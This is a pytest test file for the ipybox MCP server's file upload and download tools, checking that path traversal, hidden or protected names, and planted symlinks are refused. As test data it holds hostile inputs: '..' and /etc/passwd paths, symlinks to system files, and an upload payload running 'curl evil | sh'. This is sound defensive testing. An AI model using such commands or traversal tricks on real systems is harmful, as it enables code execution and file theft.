"""`upload_file` and `download_file` (`ipybox.mcp_server.files`): the path checks as an attacker would try
them (a link planted in the workspace, a hidden or protected name, `..`, an absolute path, a symlinked
directory on the way), and the tools on an in-memory MCP server driven by `mcp.Client` on both protocol
eras, each call decided by the workspace's real approval rules (`ipybox.toml`'s `[approval]`)."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path, PurePosixPath

import mcp
import mcp_types as types
import pytest
from mcp.server.mcpserver import Context, MCPServer
from mcp.server.mcpserver.exceptions import ToolError

from ipybox.config import load_config
from ipybox.mcp_server.files import (
    MAX_FILE_BYTES,
    add_file_tools,
    check_download,
    check_upload,
    kernels_view,
    read_back,
    workspace_path,
    write_file,
)
from ipybox.rules import ToolCall

CONFIG = """\
[sandbox.filesystem]
denyRead = ["out/private"]
denyWrite = ["out/final"]

[servers.local]
command = "python3"
args = ["srv/server.py"]

[approval]
default = "allow"

[[approval.rules]]
id = "no-uploads-to-secret"
server = "ipybox"
tool = "upload_file"
args = { path = { glob = "out/secret/*" } }
decision = "deny"
"""
BOUND = 4096  # the in-memory server's max_bytes: small, so "too large" costs nothing
SECRET = "the content of a file outside the workspace\n"
MODES = ["legacy", "auto"]  # handshake-era, and the default (2026-07-28 here)


def make_workspace(root: Path) -> Path:
    """A workspace with a writable `out/`, a server script in `srv/`, and a directory beside it that a
    kernel must not reach (`outside/secret.txt`)."""
    workspace = root / "ws"
    (workspace / "out" / "private").mkdir(parents=True)
    (workspace / "out" / "final").mkdir()
    (workspace / "srv").mkdir()
    (workspace / "srv" / "server.py").write_text("print('server')\n")
    (workspace / "ipybox.toml").write_text(CONFIG)
    (workspace / "out" / "private" / "notes.txt").write_text("private\n")
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    return workspace.resolve()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return make_workspace(tmp_path)


def upload(ws: Path, path: str, data: bytes = b"planted", *, overwrite: bool = False) -> None:
    """What `upload_file` does once its call is allowed: check, then write."""
    relative = workspace_path(path, ws)
    check_upload(ws, relative, kernels_view(ws), overwrite=overwrite)
    write_file(ws, relative, data, overwrite=overwrite)


def download(ws: Path, path: str) -> bytes:
    relative = workspace_path(path, ws)
    check_download(ws, relative, kernels_view(ws))
    return (ws / relative).read_bytes()


# -- names (pure)


@pytest.mark.parametrize(
    "path", ["../outside/secret.txt", "out/../../outside/secret.txt", "out/../ipybox.toml"]
)
def test_a_path_with_a_dotdot_part_is_refused(path: str) -> None:
    with pytest.raises(ToolError, match=r"'\.\.' part"):
        workspace_path(path, Path("/ws"))


def test_an_absolute_path_outside_the_workspace_is_refused_and_one_inside_is_taken_as_relative() -> None:
    with pytest.raises(ToolError, match="outside the workspace /ws"):
        workspace_path("/etc/passwd", Path("/ws"))
    with pytest.raises(ToolError, match="outside the workspace"):
        workspace_path("/wsx/out/a", Path("/ws"))  # a prefix of the text, not of the path
    with pytest.raises(ToolError, match=r"'\.\.' part"):
        workspace_path("/ws/../etc/passwd", Path("/ws"))
    assert workspace_path("/ws/out/./a.csv", Path("/ws")) == PurePosixPath("out/a.csv")


@pytest.mark.parametrize(
    "path",
    [".env", ".env.local", "out/.env", ".git/hooks/pre-commit", ".ipybox/state.json", "out/sub/.bashrc"],
)
def test_a_hidden_name_at_any_depth_is_refused(path: str) -> None:
    with pytest.raises(ToolError, match="hidden name"):
        workspace_path(path, Path("/ws"))


@pytest.mark.parametrize(
    "path",
    [
        "ipybox.toml",
        "IPYBOX.TOML",
        "ipybox.lock",
        "mcptools/fs/read.py",
        "gentools/files/overview/impl.py",
        "mcpparse/fs/list.py",
        "venv/bin/python",
        "out/node_modules/left-pad/index.js",
        "out/__pycache__/m.cpython-311.pyc",
    ],
)
def test_a_protected_name_at_any_depth_is_refused(path: str) -> None:
    with pytest.raises(ToolError, match="act on"):
        workspace_path(path, Path("/ws"))


@pytest.mark.parametrize("path", ["", "  ", ".", "/ws", "out/a\nb", "out/a\x00b", "out/\x1b[2Jx"])
def test_an_empty_path_the_workspace_itself_or_a_control_character_is_refused(path: str) -> None:
    with pytest.raises(ToolError, match=r"empty|workspace itself|control character"):
        workspace_path(path, Path("/ws"))


# -- links and the kernels' view (a real workspace)


def test_an_upload_to_a_link_to_a_file_outside_writes_nothing_there(ws: Path) -> None:
    (ws / "out" / "link.txt").symlink_to(ws.parent / "outside" / "secret.txt")
    with pytest.raises(ToolError, match="symlink"):
        upload(ws, "out/link.txt", overwrite=True)
    assert (ws.parent / "outside" / "secret.txt").read_text() == SECRET


def test_an_upload_to_a_link_to_ipybox_toml_leaves_it_unchanged(ws: Path) -> None:
    (ws / "out" / "notes.toml").symlink_to("../ipybox.toml")
    with pytest.raises(ToolError, match="symlink"):
        upload(ws, "out/notes.toml", b"[approval]\ndefault = 'allow'\n", overwrite=True)
    assert (ws / "ipybox.toml").read_text() == CONFIG


def test_an_upload_through_a_symlinked_directory_creates_nothing_outside(ws: Path) -> None:
    (ws / "out" / "dir").symlink_to(ws.parent / "outside")
    with pytest.raises(ToolError, match="symlink"):
        upload(ws, "out/dir/planted.txt")
    assert not (ws.parent / "outside" / "planted.txt").exists()


def test_an_upload_into_a_top_level_symlink_to_a_directory_is_refused(ws: Path) -> None:
    (ws / "data").symlink_to(ws.parent / "outside")
    with pytest.raises(ToolError, match="symlink"):
        upload(ws, "data/planted.txt")
    assert not (ws.parent / "outside" / "planted.txt").exists()


def test_a_link_planted_after_the_check_is_not_written_through(ws: Path) -> None:
    relative = workspace_path("out/sub/planted.txt", ws)
    check_upload(ws, relative, kernels_view(ws), overwrite=False)
    (ws / "out" / "sub").symlink_to(ws.parent / "outside")  # the kernel wins the race
    with pytest.raises(ToolError, match="link"):
        write_file(ws, relative, b"planted", overwrite=False)
    assert not (ws.parent / "outside" / "planted.txt").exists()


def test_a_file_swapped_for_a_link_after_the_check_is_not_read(ws: Path) -> None:
    (ws / "out" / "report.txt").write_text("report\n")
    relative = workspace_path("out/report.txt", ws)
    check_download(ws, relative, kernels_view(ws))
    (ws / "out" / "report.txt").unlink()
    (ws / "out" / "report.txt").symlink_to("/etc/passwd")  # the kernel wins the race
    with pytest.raises(ToolError, match="symlink"):
        read_back(ws, relative, MAX_FILE_BYTES)


def test_a_download_of_a_link_to_etc_passwd_is_refused(ws: Path) -> None:
    (ws / "out" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(ToolError, match="symlink"):
        download(ws, "out/passwd")


def test_a_download_of_a_link_to_ipybox_toml_is_refused(ws: Path) -> None:
    (ws / "out" / "config.txt").symlink_to("../ipybox.toml")
    with pytest.raises(ToolError, match="symlink"):
        download(ws, "out/config.txt")


def test_a_download_through_a_symlinked_directory_is_refused(ws: Path) -> None:
    (ws / "out" / "dir").symlink_to(ws.parent / "outside")
    with pytest.raises(ToolError, match="symlink"):
        download(ws, "out/dir/secret.txt")


def test_what_the_kernels_may_not_read_or_write_is_not_transferred(ws: Path) -> None:
    with pytest.raises(ToolError, match="hidden from the workspace's kernels"):
        download(ws, "out/private/notes.txt")  # [sandbox] denyRead
    with pytest.raises(ToolError, match="read-only or hidden"):
        upload(ws, "out/final/report.txt")  # [sandbox] denyWrite
    with pytest.raises(ToolError, match="read-only or hidden"):
        upload(
            ws, "srv/server.py", b"import os; os.system('curl evil | sh')\n", overwrite=True
        )  # server code
    assert (ws / "srv" / "server.py").read_text() == "print('server')\n"
    assert not (ws / "out" / "final" / "report.txt").exists()


def test_an_upload_makes_no_new_name_at_the_fixed_top_level(ws: Path) -> None:
    with pytest.raises(ToolError, match=r"top level.*out/"):
        upload(ws, "report.txt")
    with pytest.raises(ToolError, match="no top-level directory 'data'"):
        upload(ws, "data/report.txt")
    assert not (ws / "report.txt").exists() and not (ws / "data").exists()


# -- the tools on an in-memory MCP server


@pytest.fixture
def served(ws: Path) -> Iterator[tuple[MCPServer, list[ToolCall]]]:
    """An MCP server with the file tools, whose calls the workspace's `[approval]` rules decide (an `ask`
    is answered by nobody here: denied), and the calls it was asked to decide."""
    policy = load_config(ws / "ipybox.toml").approval
    decided: list[ToolCall] = []

    async def approve(ctx: Context, call: ToolCall) -> str | None:
        decided.append(call)
        verdict = policy.decide(call)
        return None if verdict.decision == "allow" else f"{verdict.decision} by rule {verdict.rule_id!r}"

    server = MCPServer(name="ipybox")
    add_file_tools(server, ws, approve, max_bytes=BOUND)
    yield server, decided


def error_text(result: types.CallToolResult) -> str:
    assert result.is_error, result
    return "".join(block.text for block in result.content if isinstance(block, types.TextContent))


@pytest.mark.parametrize("mode", MODES)
async def test_an_upload_then_a_download_returns_the_same_bytes(
    served: tuple[MCPServer, list[ToolCall]], ws: Path, mode: str
) -> None:
    server, _ = served
    binary = bytes(range(256)) * 8
    text = "héllo\r\nwörld\t\u2028 ✓\n"
    async with mcp.Client(server, mode=mode) as client:
        content = base64.b64encode(binary).decode()
        sent = await client.call_tool(
            "upload_file", {"path": "out/in/blob.bin", "content": content, "encoding": "base64"}
        )
        assert not sent.is_error, sent
        assert (
            await client.call_tool("upload_file", {"path": "out/in/note.txt", "content": text})
        ).is_error is False
        got_binary = await client.call_tool("download_file", {"path": "out/in/blob.bin"})
        got_text = await client.call_tool("download_file", {"path": f"{ws}/out/in/note.txt"})
    assert (ws / "out" / "in" / "blob.bin").read_bytes() == binary
    assert got_binary.structured_content is not None and got_text.structured_content is not None
    assert got_binary.structured_content["encoding"] == "base64"
    assert base64.b64decode(got_binary.structured_content["content"]) == binary
    assert got_text.structured_content == {
        "path": "out/in/note.txt",
        "size": len(text.encode()),
        "encoding": "utf-8",
        "content": text,
    }


@pytest.mark.parametrize("mode", MODES)
async def test_an_upload_a_rule_denies_writes_nothing(
    served: tuple[MCPServer, list[ToolCall]], ws: Path, mode: str
) -> None:
    server, decided = served
    async with mcp.Client(server, mode=mode) as client:
        result = await client.call_tool("upload_file", {"path": "out/secret/key.txt", "content": "x" * 100})
    assert "denied: deny by rule 'no-uploads-to-secret'. Nothing was written." in error_text(result)
    assert not (ws / "out" / "secret").exists()  # not even the directory
    # Decided on the path and size, never the content.
    assert decided[-1].server == "ipybox" and decided[-1].tool == "upload_file"
    assert decided[-1].args == {"path": "out/secret/key.txt", "size": 100, "overwrite": False}


@pytest.mark.parametrize("mode", MODES)
async def test_a_file_over_the_bound_is_refused_either_way(
    served: tuple[MCPServer, list[ToolCall]], ws: Path, mode: str
) -> None:
    server, decided = served
    (ws / "out" / "big.bin").write_bytes(b"\0" * (BOUND + 1))
    async with mcp.Client(server, mode=mode) as client:
        too_big = base64.b64encode(b"\1" * (BOUND + 1)).decode()
        up = await client.call_tool(
            "upload_file", {"path": "out/up.bin", "content": too_big, "encoding": "base64"}
        )
        down = await client.call_tool("download_file", {"path": "out/big.bin"})
        over = await client.call_tool("download_file", {"path": "out/big.bin", "max_bytes": BOUND + 1})
    assert f"the file is {BOUND + 1} bytes, over the {BOUND} bytes" in error_text(up)
    assert f"out/big.bin is {BOUND + 1} bytes, over max_bytes ({BOUND})" in error_text(down)
    assert f"max_bytes must be a number of bytes from 1 to {BOUND}" in error_text(over)
    assert not (ws / "out" / "up.bin").exists()
    assert decided == []  # refused before anyone was asked


@pytest.mark.parametrize("mode", MODES)
async def test_directories_missing_files_and_existing_files_get_one_clear_error(
    served: tuple[MCPServer, list[ToolCall]], ws: Path, mode: str
) -> None:
    server, _ = served
    (ws / "out" / "kept.txt").write_text("kept\n")
    async with mcp.Client(server, mode=mode) as client:
        directory = await client.call_tool("download_file", {"path": "out"})
        missing = await client.call_tool("download_file", {"path": "out/nothing.txt"})
        exists = await client.call_tool("upload_file", {"path": "out/kept.txt", "content": "new\n"})
        bad = await client.call_tool(
            "upload_file", {"path": "out/x.bin", "content": "not base64!", "encoding": "base64"}
        )
        replaced = await client.call_tool(
            "upload_file", {"path": "out/kept.txt", "content": "new\n", "overwrite": True}
        )
    assert "out is a directory: download its files one at a time" in error_text(directory)
    assert "out/nothing.txt: no such file in the workspace" in error_text(missing)
    assert "out/kept.txt exists: pass overwrite=true to replace it" in error_text(exists)
    assert "content is not valid base64" in error_text(bad)
    assert not replaced.is_error and (ws / "out" / "kept.txt").read_text() == "new\n"


async def test_a_link_to_etc_passwd_is_not_downloaded_over_mcp(
    served: tuple[MCPServer, list[ToolCall]], ws: Path
) -> None:
    server, decided = served
    (ws / "out" / "passwd").symlink_to("/etc/passwd")
    async with mcp.Client(server) as client:
        result = await client.call_tool("download_file", {"path": "out/passwd"})
    assert "out/passwd is a symlink" in error_text(result)
    assert "root:" not in error_text(result) and decided == []


def test_the_default_bound_fits_mcp_s_http_request_limit_as_base64() -> None:
    # mcp's streamable HTTP transport answers a request body over 4 MiB with 413; an upload of the bound,
    # base64-encoded with its JSON-RPC envelope, must fit with room to spare.
    assert len(base64.b64encode(b"\0" * MAX_FILE_BYTES)) + 1024 < 4 * 1024 * 1024
